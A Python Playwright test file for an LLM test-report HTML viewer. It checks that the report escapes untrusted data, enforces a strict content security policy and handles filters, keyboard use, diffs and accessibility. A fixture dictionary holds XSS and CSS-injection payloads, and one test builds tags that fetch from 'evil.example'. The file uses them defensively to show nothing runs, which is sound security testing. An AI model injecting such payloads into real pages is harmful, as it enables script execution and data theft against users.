"""The report in a real Chromium: what it shows, how one gets about in it, and that nothing in it ever runs."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from importlib.resources import files
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from PIL import Image
from playwright.sync_api import Browser, Page

from pytest_llm.gates.past import of_runs
from pytest_llm.reports.viewer.document import write_file
from pytest_llm.reports.viewer.overview import Story
from pytest_llm.store.line import CellLine, End
from pytest_llm.store.record import RunRecord
from tests.helpers.records import answer, cell, finding, record

RUN = "window.pwned = 1; alert(1); fetch('http://evil.example/')"
HOSTILE = {
    "script": f"</script><script>{RUN}</script>",
    "comment": f"<!-- --><script>{RUN}</script><!-- --!><script>{RUN}</script>",
    "image": f'"><img src=x onerror="{RUN}">',
    "attribute": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "link": f"javascript:{RUN}",
    "markup of a link": f'[here](javascript:{RUN}) <a href="javascript:{RUN}">here</a>',
    "svg": f"<svg/onload={RUN.replace(' ', '')}>",
    "style": "</style><style>*{display:none!important} body{background:url(http://evil.example/)}</style>",
    "css": "x;} body{display:none} @import url(http://evil.example/a.css);",
    "escaped": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "template": "{{ constructor.constructor('window.pwned = 1')() }} ${window.pwned = 1}",
    "nul": "nul \0 bell \x07 escape \x1b[31mred\x1b[0m back \r end",
    "surrogate": "lone \ud800 and \udfff, a pair \U0001f600",
    "direction": "turned \u202eknil\u202c \u2066on\u2069 \u200fright\u200f \u05d0\u05d1\u05d2",
    "prototype": "__proto__",
    "constructor": "constructor",
    "blank": " ",
    "lines": "\n\n\r\n\u2028\u2029\n",
    "markers": "combined z\u0351\u0352\u0353 \ufeff\u200b zero",
}
SMALL = {"width": 600, "height": 300}  # where nothing is looked at, less is drawn
LOOK = """async ([address, id]) => {
    const before = location.hash, changed = new Promise((go) => addEventListener("hashchange", go, { once: true }))
    location.hash = address
    if (location.hash !== before) await changed
    for (let waits = 0; document.documentElement.dataset.cell !== id; waits++) {
        if (waits === 3000) throw new Error(`no cell ${id}`)
        await new Promise((go) => setTimeout(go, 10))
    }
    document.querySelectorAll("#cell details").forEach((one) => { one.open = true })
}"""
Visit = Callable[..., Page]


@pytest.fixture
def visit(browser: Browser, tmp_path: Path) -> Iterator[Visit]:
    """Write the report of a run and open it; in the end nothing of it may have run or been fetched."""
    contexts, alarms = [], []

    def opened(run: RunRecord, earlier: RunRecord | None = None, at: str = "", **options: Any) -> Page:
        context = browser.new_context(**{"viewport": {"width": 1200, "height": 900}, **options})
        contexts.append(context)
        page = context.new_page()
        page.on("dialog", lambda dialog: (alarms.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda request: request.url.startswith("http") and alarms.append(request.url))
        page.on("pageerror", lambda error: alarms.append(str(error)))
        page.on("console", lambda said: said.type in ("error", "warning") and alarms.append(said.text))
        past = of_runs(f"run {earlier.header.run}", [earlier]) if earlier else None
        story = Story(run, past, [earlier]) if past and earlier else Story(run)
        file = tmp_path / "out" / "report.html"
        write_file(file, story, earlier)
        counted = context.new_cdp_session(page)
        counted.send("Performance.enable", {"timeDomain": "threadTicks"})  # of its processor, whatever else it does
        page.goto(file.as_uri() + at)
        page.wait_for_function("document.documentElement.dataset.ready")
        metrics = {one["name"]: one["value"] for one in counted.send("Performance.getMetrics")["metrics"]}
        page.seconds = metrics["TaskDuration"]  # type: ignore[attr-defined]
        return page

    yield opened
    for context in contexts:
        for page in context.pages:
            assert page.evaluate("window.pwned") is None
        context.close()
    assert alarms == []


def look(page: Page, id_: str, more: str = "") -> None:
    """Open a cell by its address, and everything that is folded in it."""
    page.evaluate(LOOK, [f"cell={quote(id_, safe='')}{more}", id_])


def text_of(page: Page) -> str:
    shown: str = page.evaluate("document.querySelector('#cell').textContent")
    return shown


def everywhere(text: str, path: Path) -> RunRecord:
    """A run that has this text in every field that holds one; `path`: where its record would be."""
    request = {
        "model": text,
        "messages": [{"role": text, "content": text}, {"role": "user", "content": text}],
        "think": text,
        "format": {text: text},
        "options": {text: text, "stop": [text]},
        "keep_alive": text,
    }
    found = [
        finding(text, severity, text, kind=text, line=line, column=1, source=text, details=text)
        for severity, line in (("failure", 1), ("failure", 3), ("error", None), ("warning", 2), ("note", 99))
    ]
    asked = answer(
        f"{text}\n```html\n{text}\n```\n{text}",
        stage=text,
        request=request,
        thinking=text,
        finish_word=text,
        model=text,
        digest=text,
        server=f"http://{text}",
        version=text,
        context_length=text,
        tool_calls=[{"name": text, "arguments": text}],
        notes=[text],
        retries=[text],
        stored="" if text.startswith("<") else text,
        began=1.0,
        fingerprint={"answers": {text: text, "server": text}, "speed": {text: text, "machine": text}},
        findings=found,
        judged=[{"model": text, "votes": [{"grade": text, "reason": text}, {"error": text}]}],
        files=[[text, "cell/page.html"], [text, "cell/picture.png"], [text, f"cell/{text}"]],
    )
    fields = dict.fromkeys(
        ("nodeid", "reported", "reason", "case", "file", "model", "think", "row", "started"), text
    )
    checks = [{"name": text, "label": text, "stage": text, "arguments": {text: text}}]
    lines = [
        cell(
            answers=[asked, {**asked, "stage": "b"}],
            engine=engine,
            axes={text: text},
            options={text: text},
            seed=text,
            markers=(text,),
            checks=checks,
            **{**fields, "nodeid": f"{text}{engine}"},
        )
        for engine in ("ollama", "openai", text)
    ]
    head: dict[str, Any] = {"started": text, "commit": text, "branch": text, "versions": {text: text}}
    made = record(*lines, path=path, **head)
    return RunRecord(path, made.header, made.cells, End(True, 0, {}, text, text, text))


def prepared(tmp_path: Path, text: str) -> Path:
    """The folder of a run whose cells kept a page and a picture that is none."""
    folder = tmp_path / "run" / "cell"
    folder.mkdir(parents=True)
    (folder / "page.html").write_text(text, "utf-8", errors="replace")
    (folder / "picture.png").write_bytes(b"\x89PNG\r\n\x1a\n" + text.encode("utf-8", "replace"))
    return folder.parent / "cells.jsonl"


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_the_data_runs_or_breaks_the_page(name: str, visit: Visit, tmp_path: Path) -> None:
    text = HOSTILE[name]
    run = everywhere(text, prepared(tmp_path, text))
    page = visit(run, everywhere(text, run.path), viewport=SMALL)
    page.evaluate("document.querySelectorAll('main details').forEach(one => { one.open = true })")
    assert page.locator("#matrix a.cell").count() == len(run.cells)
    ids: list[str] = page.evaluate("run.cells.map(cell => cell.id)")
    for id_ in ids:
        for more in ("", "&tab=1", f"&with={quote(ids[0], safe='')}", "&with=before"):
            look(page, id_, more)
        assert page.locator("#cell .findings > .finding").count() == 5
    assert (
        page.evaluate("document.querySelectorAll('iframe, object, embed, main script, dialog script').length") == 0
    )
    links = page.evaluate("[...document.querySelectorAll('[href]')].map(e => e.getAttribute('href'))")
    assert all(link.startswith("#") for link in links)
    with page.expect_download() as saved:
        page.click("text=Save the page")
    assert saved.value.suggested_filename.endswith(".html")
    if name in ("script", "image", "escaped", "css"):
        assert text in text_of(page)


def test_what_cannot_be_seen_is_spelled_out(visit: Visit, tmp_path: Path) -> None:
    text = HOSTILE["nul"] + HOSTILE["direction"] + HOSTILE["surrogate"]
    page = visit(record(cell(answers=[answer(text)])), at="#cell=a%5Bm-think-off%5D")
    page.wait_for_selector("#cell .story")
    shown = text_of(page)
    for wanted in ("nul \\x00 bell \\x07 escape \\x1b[31mred", "turned \\x202eknil", "lone \\xd800 and \\xdfff"):
        assert wanted in shown


def test_long_lines_in_every_field(visit: Visit, tmp_path: Path) -> None:
    text = "long " * 1_000_000
    folder = prepared(tmp_path, "short")
    (first, *_) = everywhere("x", folder).cells.values()
    asked = {**first.answers[0], "thinking": text, "text": f"{text}\n```js\n{text}\n```\n"}
    asked["request"] = {**asked["request"], "messages": [{"role": "user", "content": text}]}
    asked["findings"] = [finding(text, line=1, source=text, details=text)]
    names = dict.fromkeys(("nodeid", "reason", "case", "file", "model", "think", "row"), text)
    line = cell(answers=[asked], markers=(text,), axes={"a": text}, checks=first.checks, **names)
    page = visit(record(line, path=folder, branch=text, versions={"v": text}))
    assert page.locator("#matrix a.cell").count() == 1
    look(page, page.evaluate("run.cells[0].id"))
    assert page.evaluate("document.querySelector('#cell').textContent.length") < 2_000_000
    assert page.evaluate("document.documentElement.scrollWidth") <= 1200
    assert page.evaluate("document.querySelector('#cell .story').scrollWidth") <= 1200


def test_a_saved_page_runs_alone_and_fetches_nothing(visit: Visit, browser: Browser, tmp_path: Path) -> None:
    fetches = "".join(
        f"<{tag} {attribute}='http://evil.example/{tag}'></{tag}>"
        for tag, attribute in (
            ("img", "src"),
            ("script", "src"),
            ("iframe", "src"),
            ("link rel=stylesheet", "href"),
        )
    )
    script = (
        "p.textContent += document.compatMode + origin;"
        "fetch('http://evil.example/f').catch(() => p.textContent += ' blocked')"
    )
    html = f'<!doctype html><p id=p title="&quot;>">hi</p>{fetches}<script>{script}</script>'
    folder = prepared(tmp_path, html)
    run = record(cell(answers=[answer(files=[["page", "cell/page.html"]])]), path=folder)
    page = visit(run, at="#cell=a%5Bm-think-off%5D")
    with page.expect_download() as saved:
        page.click("text=Save the page")
    file = tmp_path / "saved.html"
    saved.value.save_as(file)
    other, failures, reached = browser.new_page(), [], []
    other.on("requestfailed", lambda request: failures.append((request.url.rpartition("/")[2], request.failure)))
    other.on("response", lambda response: response.url.startswith("http") and reached.append(response.url))
    other.goto(file.as_uri())
    frame = other.frames[1]
    frame.wait_for_function("document.querySelector('#p').textContent.includes('blocked')")
    assert frame.text_content("#p") == "hiCSS1Compatnull blocked"
    frame.evaluate("() => { location.href = 'http://evil.example/gone' }")
    other.wait_for_timeout(200)
    assert ("img", "csp") in failures
    assert {why for _, why in failures} == {"csp"}
    assert reached == []
    other.close()


def test_the_policy_names_what_runs_and_nothing_else(visit: Visit) -> None:
    page = visit(record(cell()))
    policy: str = page.get_attribute("meta[http-equiv]", "content") or ""
    rules = {name: words for name, *words in (rule.split() for rule in policy.split("; "))}
    assert rules["default-src"] == ["'none'"]
    assert [len(rules[name]) for name in ("script-src", "style-src")] == [1, 1]
    assert all(rules[name][0].startswith("'sha256-") for name in ("script-src", "style-src"))
    assert "unsafe" not in policy
    assert page.evaluate("document.querySelectorAll('script:not([type])').length") == 1
    assert page.evaluate("document.querySelectorAll('[onclick], [style], [onerror]').length") == 0


def several() -> tuple[RunRecord, RunRecord]:
    """A run with all kinds of cells, and the one before it."""
    bad = finding("declared and not used: size", line=3, column=2, source="size := 1")
    code = "Here:\n```go\nsize := 1\nx := 2\n```\n"

    def lines(*, worse: bool) -> list[CellLine]:
        failed = answer(code, findings=[bad])
        return [
            cell("a", answers=[failed if worse else answer(code.replace("size", "length"))]),
            cell("a", think="on", answers=[answer(code, thinking="hm " * 30)]),
            cell("b", "other", answers=[failed]),
            cell("b"),
            cell("f", markers=("visual", "html")),
            cell("c", outcome="skipped", answers=[], reported="skipped", reason="no compiler"),
            cell("d", outcome="error", answers=[answer(findings=[finding("server down", "error", "ask")])]),
            cell(
                "e",
                samples=3,
                min_pass=2,
                outcomes=("passed", "failed", "passed"),
                answers=[answer("1"), answer("2", sample=1, findings=[bad]), answer("3", sample=2)],
                outcome="passed",
            ),
        ]

    return record(*lines(worse=True)), record(*lines(worse=False), run="20251231-000000-000")


def tiles(page: Page) -> list[str]:
    script = "[...document.querySelectorAll('#matrix a.cell')].map(e => run.cells[e.dataset.cell].id)"
    found: list[str] = page.evaluate(script)
    return found


FILTERS = {
    "": 8,
    "#q=length": 0,
    "#q=DECLARED": 3,
    "#verdict=failed": 2,
    "#verdict=failed+error": 3,
    "#marker=visual": 1,
    "#model=other": 1,
    "#check=ask": 1,
    "#only=different": 4,
    "#only=changed": 1,
    "#verdict=passed&marker=visual": 1,
    "#q=%E0%A4%A": 0,
    "#sort=nonsense": 8,
    "#nonsense=1": 8,
}


def test_search_and_filters(visit: Visit) -> None:
    now, before = several()
    page = visit(now, before)
    for address, wanted in FILTERS.items():
        page.evaluate("address => { location.hash = address }", address)
        page.wait_for_function("n => document.querySelectorAll('#matrix a.cell').length === n", arg=wanted)
    page.evaluate("location.hash = ''")
    page.fill("input[type=search]", "b.prompt")
    assert len(tiles(page)) == 2
    assert "q=b.prompt" in page.url
    page.click("#clear")
    page.click("button.tile.failed")
    assert len(tiles(page)) == 2
    page.click("text=Clear")
    page.select_option("select[data-filter=sort]", "failures")
    first = tiles(page)[0]
    page.goto(page.url.partition("#")[0])
    page.reload()
    page.wait_for_selector("#matrix a.cell")
    assert tiles(page)[0] == first


def test_the_keyboard(visit: Visit) -> None:
    now, before = several()
    page = visit(now, before)
    page.keyboard.press("/")
    page.keyboard.type("jk?")
    assert page.input_value("input[type=search]") == "jk?"
    page.fill("input[type=search]", "")
    page.keyboard.press("Escape")
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("k")
    page.keyboard.press("Enter")
    page.wait_for_selector("#cell[open]")
    opened = [page.evaluate("view.cell")]
    for key in "jjk":
        page.keyboard.press(key)
        opened.append(page.evaluate("view.cell"))
    assert opened == ["a[m-think-off]", "a[m-think-on]", "b[m-think-off]", "a[m-think-on]"]
    page.keyboard.press("Escape")
    page.wait_for_selector("#cell:not([open])", state="attached")
    assert "cell=" not in page.url
    page.go_back()
    page.wait_for_selector("#cell[open]")


def test_a_cell(visit: Visit) -> None:
    now, before = several()
    page = visit(now, before)
    look(page, "a[m-think-off]")
    hit = page.locator(".line.hit")
    assert hit.inner_text().split() == ["3", "size", ":=", "1"]
    assert page.locator(".line.hit + .finding").inner_text() == "declared and not used: size"
    assert page.locator(".t-number").count() == 2
    assert "curl -sN http://127.0.0.1:11434/api/chat" in text_of(page)
    look(page, "a[m-think-off]", "&with=before")
    page.wait_for_selector(".line.gone")
    assert page.locator(".line.gone").all_inner_texts() == ["−\nlength := 1"]
    assert page.locator(".line.come").all_inner_texts() == ["+\nsize := 1"]
    look(page, "e[m-think-off]")
    assert page.locator(".tab").count() == 3
    page.click(".tab >> nth=1")
    page.wait_for_function("document.querySelector('#cell .findings').textContent.includes('declared')")
    look(page, "c[m-think-off]")
    assert "no compiler" in text_of(page)


def test_a_picture_of_the_earlier_run_beside_todays(visit: Visit, tmp_path: Path) -> None:
    shown: list[RunRecord] = []
    for name, colour in (("before", "red"), ("now", "blue")):
        folder = tmp_path / name / "cell"
        folder.mkdir(parents=True)
        Image.new("RGB", (40, 30), colour).save(folder / "screenshot.png")
        line = cell(answers=[answer(name, files=[["screenshot", "cell/screenshot.png"]])])
        shown.append(record(line, path=folder.parent / "cells.jsonl", run=f"20260101-00000{len(shown)}-aaa"))
    page = visit(shown[1], shown[0])
    look(page, "a[m-think-off]", "&with=before")
    page.wait_for_selector(".two img")
    colours = """Promise.all([...document.querySelectorAll(".two img")].map(async (image) => {
        await image.decode();
        const context = document.createElement("canvas").getContext("2d");
        context.drawImage(image, 0, 0);
        return [...context.getImageData(9, 9, 1, 1).data].slice(0, 3).map((n) => n > 128);
    }))"""
    assert page.evaluate(colours) == [[True, False, False], [False, False, True]]
    assert page.locator(".two .dim").all_inner_texts() == ["there", "here"]


def test_rarer_states(visit: Visit) -> None:
    bad = finding("bad")
    graded = {"grade": "fail", "reason": "It promises a date.", "error": ""}
    judged = [{"model": "grader", "votes": [graded, {"grade": "", "reason": "", "error": "it is no JSON"}]}]
    page = visit(
        record(
            cell("expected", answers=[answer(findings=[bad])], reported="xfailed"),
            cell("surprise", reported="xpassed"),
            cell("again", escalated=True, escalate="on"),
            cell("graded", answers=[answer(judged=judged)]),
            *(cell("a-long-name-" * 9 + str(number), model="o" * 99 + str(number)) for number in range(14)),
        )
    )
    assert page.locator("h1").inner_text() == "17 of 18 cells passed"
    assert page.locator(".tile").all_inner_texts() == [
        "17\npassed",
        "0\nfailed",
        "1\nxfailed",
        "0\nerror",
        "0\nskipped",
    ]
    assert page.locator(".cell span").all_inner_texts() == ["again", "xfail", "xpass"]
    assert len(set(page.locator(".case span:first-child").all_inner_texts())) == 18
    assert len(set(page.locator(".matrix .model").all_inner_texts())) == 15
    assert page.locator(".models tbody tr").count() == 12
    page.click(".card .more")
    assert page.locator(".models tbody tr").count() == 15
    assert page.locator(".unit").inner_text() == "tokens a second; ~ beside other requests"
    look(page, "graded[m-think-off]")
    said = page.locator(".votes li").all_inner_texts()
    assert [line.split("\n") for line in said] == [
        ["vote 1", "fail", "It promises a date."],
        ["vote 2", "no verdict", "it is no JSON"],
    ]
    assert "1 Jan 2026, 00:00:01 UTC" in text_of(page)


def test_the_head_of_the_matrix_stays_in_sight(visit: Visit) -> None:
    page = visit(record(*(cell(f"c{number}") for number in range(200))))
    page.evaluate("scrollTo(0, 3000)")
    page.wait_for_timeout(50)
    top = page.locator(".matrix .model").bounding_box()
    assert top
    assert 0 <= top["y"] < 100


def test_a_run_of_nothing(visit: Visit) -> None:
    page = visit(record())
    assert page.locator("h1").inner_text() == "No cell was run"
    assert page.locator("h2").all_inner_texts() == ["Cells", "Keys"]


def test_what_the_failures_are_called(visit: Visit) -> None:
    words = {"failure": "failed", "error": "error", "skip": "skipped"}
    titles = {
        ("failure",): "Why cells fail",
        ("error",): "Why cells could not be judged",
        ("skip",): "Why cells were skipped",
        ("failure", "skip"): "Why cells did not pass",
    }
    for kinds, title in titles.items():
        lines = [cell(kind, outcome=words[kind], answers=[answer(findings=[finding("x", kind)])]) for kind in kinds]
        assert visit(record(*lines)).locator("h2").first.inner_text() == title


def test_the_difference_of_two_texts(visit: Visit) -> None:
    page = visit(record(cell()))
    pairs = [("a\nb\nc", "a\nc"), ("", "x"), ("x", ""), ("a\nb", "b\na"), ("a\na\nb", "a\nb\nb"), ("same", "same")]
    pairs += [
        ("\n".join(a), "\n".join(b)) for a in ("abcabba", "xyz", "ab" * 20) for b in ("cbabac", "zyx", "ba" * 20)
    ]
    for before, after in pairs:
        lines = page.evaluate("([a, b]) => difference(a, b)", [before, after])
        assert "\n".join(text for kind, text in lines if kind != "come") == before
        assert "\n".join(text for kind, text in lines if kind != "gone") == after
    kept = page.evaluate("difference('a\\nb\\nc\\nd', 'a\\nx\\nc\\nd').filter(([kind]) => kind === 'same').length")
    assert kept == 3


@pytest.mark.parametrize("width", [1200, 380])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(visit: Visit, width: int, scheme: str) -> None:
    now, before = several()
    page = visit(now, before, viewport={"width": width, "height": 900}, color_scheme=scheme, bypass_csp=True)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    axe = (files("axe_playwright_python") / "axe.min.js").read_text("utf-8")
    page.evaluate(axe)
    found = []
    for id_ in ("", "a[m-think-off]", "e[m-think-off]"):
        if id_:
            look(page, id_, "&with=before")
        told = "result => result.violations.map(v => [v.id, v.impact, v.nodes.map(n => n.html)])"
        found += page.evaluate(f"axe.run().then({told})")
    assert [one for one in found if one[1] in ("serious", "critical")] == []


def test_ten_thousand_cells(visit: Visit) -> None:
    now, _ = several()
    failed, passed = next(iter(now.cells.values())).answers[0], answer("ok " * 100)
    lines = [
        cell(
            f"case-{number}", model, think, answers=[failed if number % 7 else passed] if number % 50 == 49 else []
        )
        for number in range(1000)
        for model in ("m", "n", "o", "p", "q")
        for think in ("off", "on")
    ]
    page = visit(record(*lines))
    assert page.seconds < 2  # type: ignore[attr-defined]
    assert 0 < page.locator("#matrix a.cell").count() < 5000
    look(page, "case-999[q-think-on]")
    page.keyboard.press("Escape")
    page.fill("input[type=search]", "case-998")
    page.wait_for_function("document.querySelectorAll('#matrix a.cell').length === 10")
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")


def test_the_data_is_ascii_and_ends_no_element(tmp_path: Path) -> None:
    file = tmp_path / "report.html"
    write_file(file, Story(everywhere(HOSTILE["script"], tmp_path / "cells.jsonl")), None)
    blocks = re.findall(
        r'<script type="application/octet-stream" id="([\w-]+)">([\w+/=]*)</script>', file.read_text()
    )
    assert [name for name, _ in blocks] == ["run", "cells-0"]
    assert "evil" not in file.read_text()
    assert json.dumps(HOSTILE["script"]) not in file.read_text()


def test_a_cell_opens_with_the_question_that_tells_why_it_failed(visit: Visit) -> None:
    wrong = answer("second", stage="question 2", findings=[finding("no")])
    asked = [answer("first", stage="question 1"), wrong, answer("third", stage="question 3")]
    page = visit(record(cell("a", answers=asked), cell("b", answers=asked[::2])))
    for id_, more, wanted in (("a", "", "question 2"), ("a", "&tab=0", "question 1"), ("b", "", "question 1")):
        look(page, f"{id_}[m-think-off]", more)
        page.wait_for_function(
            "w => document.querySelector('[aria-pressed=true].tab')?.innerText === w", arg=wanted
        )
    chosen = page.locator(".tab", has_text="question 3")
    chosen.click()
    assert "tab=1" in page.url


def test_on_paper_nothing_is_wider_than_the_page(visit: Visit) -> None:
    lines = [
        cell("a", model=f"hf.co/someone/A-Model-With-A-Long-Name:{n}", think=t)
        for n in range(3)
        for t in ("off", "on")
    ]
    page = visit(record(*lines), viewport={"width": 718, "height": 1000})
    page.emulate_media(media="print")
    assert page.evaluate(
        "[...document.querySelectorAll('.models, .spans')].every(e => e.getBoundingClientRect().right <= 718)"
    )


def test_on_paper_forty_models_fit(visit: Visit) -> None:
    page = visit(
        record(*(cell("a", model=f"model-{n}:8b") for n in range(40))), viewport={"width": 718, "height": 900}
    )
    page.emulate_media(media="print")
    assert page.evaluate("document.querySelector('.matrix').getBoundingClientRect().right") <= 718
